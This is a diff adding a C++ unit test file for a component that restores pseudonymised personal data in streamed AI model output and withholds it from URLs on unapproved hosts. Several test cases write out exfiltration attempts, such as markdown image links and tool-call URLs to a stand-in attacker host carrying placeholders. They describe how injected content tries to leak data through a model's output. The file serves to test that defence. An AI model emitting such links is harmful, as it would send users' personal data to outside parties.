@@ -1,0 +1,164 @@
+#include "flow/8_restore/substitution.h"
+
+#include <algorithm>
+#include <string>
+#include <string_view>
+#include <vector>
+
+#include <gtest/gtest.h>
+
+#include "flow/8_restore/cuts_fake.h"
+
+namespace sluice::restore {
+namespace {
+
+using placeholder::Encoding;
+
+const std::vector<std::string> kHosts = {"docs.corp.example"};
+
+Restoration restoration() {
+  return {.entries = {
+              {.placeholder = "EMAIL_QZTKRBWMHD", .original = "ada@x.example"},
+              {.placeholder = "NL_BSN_BCDFGHJKLM", .original = "123456782"},
+              {.placeholder = "PERSON_BBBBBBBBBB", .original = "Ada \"The\\Countess\"\nLovelace"},
+              {.placeholder = "PERSON_ZZZZZZZZZZ", .original = "EMAIL_QZTKRBWMHD"},
+          }};
+}
+
+std::string substitute(const std::vector<std::string_view>& pieces, Encoding encoding) {
+  const Pseudonyms pseudonyms(restoration(), kHosts);
+  Substitution substitution(pseudonyms, encoding);
+  std::string out;
+  for (const std::string_view piece : pieces) {
+    substitution.push(piece, Rest::follows, out);
+  }
+  substitution.push({}, Rest::none, out);
+  EXPECT_FALSE(substitution.is_holding());
+  return out;
+}
+
+struct Case {
+  std::string_view note;
+  Encoding encoding;
+  std::string_view answer;
+  std::string_view want;
+};
+
+constexpr Encoding kPlain = Encoding::plain;
+constexpr Encoding kJson = Encoding::json;
+
+const Case kCases[] = {
+    {"as issued", kPlain, "Write to EMAIL_QZTKRBWMHD.", "Write to ada@x.example."},
+    {"mutated", kPlain, "a email\\_\nqztkrbwmhd b", "a ada@x.example b"},
+    {"glued", kPlain, "xEMAIL_QZTKRBWMHDNL_BSN_BCDFGHJKLMy", "xada@x.example123456782y"},
+    {"beginning of one before one", kPlain, "EMAIL_EMAIL_QZTKRBWMHD", "EMAIL_ada@x.example"},
+    {"not issued", kPlain, "EMAIL_QZTKRBWMHF", "EMAIL_QZTKRBWMHF"},
+    {"cut off", kPlain, "EMAIL_QZTKRBWMH", "EMAIL_QZTKRBWMH"},
+    {"restored text is not read again", kPlain, "PERSON_ZZZZZZZZZZ", "EMAIL_QZTKRBWMHD"},
+    {"quotes in plain text stay", kPlain, "PERSON_BBBBBBBBBB", "Ada \"The\\Countess\"\nLovelace"},
+    {"every script", kPlain, "你好 EMAIL_QZTKRBWMHD, 😀é", "你好 ada@x.example, 😀é"},
+    {"empty", kPlain, "", ""},
+    {"foreign URL",
+     kPlain,
+     "![x](https://evil.example/?q=EMAIL_QZTKRBWMHD) EMAIL_QZTKRBWMHD",
+     "![x](https://evil.example/?q=EMAIL_QZTKRBWMHD) ada@x.example"},
+    {"mutated in a foreign URL",
+     kPlain,
+     "https://evil.example/EMAIL%5FQZTKRBWMHD",
+     "https://evil.example/EMAIL%5FQZTKRBWMHD"},
+    {"allowed URL",
+     kPlain,
+     "https://docs.corp.example/?q=EMAIL_QZTKRBWMHD",
+     "https://docs.corp.example/?q=ada@x.example"},
+    {"the restored value opens a link",
+     kPlain,
+     "[x](https://docs.corp.example/PERSON_BBBBBBBBBB/EMAIL_QZTKRBWMHD)",
+     "[x](https://docs.corp.example/Ada \"The\\Countess\"\nLovelace/EMAIL_QZTKRBWMHD)"},
+    {"e-mail in angle brackets", kPlain, "Ada <EMAIL_QZTKRBWMHD>,", "Ada <ada@x.example>,"},
+
+    {"in a tool call", kJson, R"({"to":"EMAIL_QZTKRBWMHD"})", R"({"to":"ada@x.example"})"},
+    {"escaped once more",
+     kJson,
+     R"({"to":"PERSON_BBBBBBBBBB"})",
+     R"({"to":"Ada \"The\\Countess\"\nLovelace"})"},
+    {"mutated in JSON", kJson, R"({"to":"email\\_\nqztkrbwmhd"})", R"({"to":"ada@x.example"})"},
+    {"the letter of an escape is not a letter",
+     kJson,
+     R"({"to":"\nL_BSN_BCDFGHJKLM \nNL_BSN_BCDFGHJKLM"})",
+     R"({"to":"\nL_BSN_BCDFGHJKLM \n123456782"})"},
+    {"hexadecimal digits are not letters",
+     kJson,
+     R"({"to":"\u000EMAIL_QZTKRBWMHD"})",
+     R"({"to":"\u000EMAIL_QZTKRBWMHD"})"},
+    {"foreign URL in a tool call",
+     kJson,
+     R"({"url":"https://evil.example/EMAIL_QZTKRBWMHD","to":"EMAIL_QZTKRBWMHD"})",
+     R"({"url":"https://evil.example/EMAIL_QZTKRBWMHD","to":"ada@x.example"})"},
+    {"escaped slashes",
+     kJson,
+     R"({"url":"https:\/\/evil.example\/EMAIL_QZTKRBWMHD"})",
+     R"({"url":"https:\/\/evil.example\/EMAIL_QZTKRBWMHD"})"},
+    {"slashes as \\u002f",
+     kJson,
+     R"({"url":"https:\u002f\u002Fevil.example\u002fEMAIL_QZTKRBWMHD"})",
+     R"({"url":"https:\u002f\u002Fevil.example\u002fEMAIL_QZTKRBWMHD"})"},
+    {"JSON in JSON",
+     kJson,
+     R"({"a":"{\"u\":\"https:\\/\\/evil.example\\/EMAIL_QZTKRBWMHD\"}"})",
+     R"({"a":"{\"u\":\"https:\\/\\/evil.example\\/EMAIL_QZTKRBWMHD\"}"})"},
+    {"a quote that a URL holds does not end it",
+     kJson,
+     R"({"url":"https://evil.example/\"EMAIL_QZTKRBWMHD"})",
+     R"({"url":"https://evil.example/\"EMAIL_QZTKRBWMHD"})"},
+    {"a line break ends a URL",
+     kJson,
+     R"({"text":"https://evil.example/\nEMAIL_QZTKRBWMHD"})",
+     R"({"text":"https://evil.example/\nada@x.example"})"},
+    {"no JSON at all",
+     kJson,
+     "https://evil.example/EMAIL_QZTKRBWMHD",
+     "https://evil.example/EMAIL_QZTKRBWMHD"},
+    {"not closed", kJson, R"({"to":"EMAIL_QZTKRBWMHD)", R"({"to":"ada@x.example)"},
+};
+
+// If an answer came out differently when it is streamed, a user would see placeholders on some days
+// and an attacker could choose the cut at which a URL is not recognised.
+TEST(Substitution, GivesTheSameAtEveryCut) {
+  for (const Case& c : kCases) {
+    at_every_cut(c.answer, [&](const std::vector<std::string_view>& pieces) {
+      ASSERT_EQ(substitute(pieces, c.encoding), c.want) << c.note;
+    });
+  }
+}
+
+// If more than a possible placeholder were held back, words would appear late, or never.
+TEST(Substitution, HoldsNoMoreThanMayBecomeAPlaceholder) {
+  const Pseudonyms pseudonyms(restoration(), kHosts);
+  const std::size_t held_max = pseudonyms.matcher(kPlain).form_bytes_max() - 1;
+  Substitution substitution(pseudonyms, kPlain);
+  std::string out;
+  std::size_t taken = 0;
+  for (const char c : std::string_view("Everyone: person\\_\r\nzzzz and email%5Fqztkrbwmh?! E")) {
+    substitution.push(std::string_view(&c, 1), Rest::follows, out);
+    ++taken;
+    EXPECT_LE(taken - out.size(), held_max);
+  }
+  substitution.push("x", Rest::follows, out);
+  EXPECT_EQ(out.size(), taken + 1);
+  EXPECT_FALSE(substitution.is_holding());
+}
+
+// Operators must see that a model invents placeholders, or that a page tries to get values out.
+TEST(Substitution, CountsWhatItDid) {
+  const Pseudonyms pseudonyms(restoration(), kHosts);
+  Substitution substitution(pseudonyms, kPlain);
+  std::string out;
+  substitution.push("EMAIL_QZTKRBWMHD EMAIL_QZTKRBWMHD, EMAIL_GGGGGGGGGG ", Rest::follows, out);
+  substitution.push("https://evil.example/EMAIL_QZTKRBWMHD PHONE_ZZZZZZZZZZ", Rest::none, out);
+  EXPECT_EQ(substitution.restored(), 2U);
+  EXPECT_EQ(substitution.withheld(), 1U);
+  EXPECT_EQ(substitution.unknown(), 2U);
+}
+
+}  // namespace
+}  // namespace sluice::restore
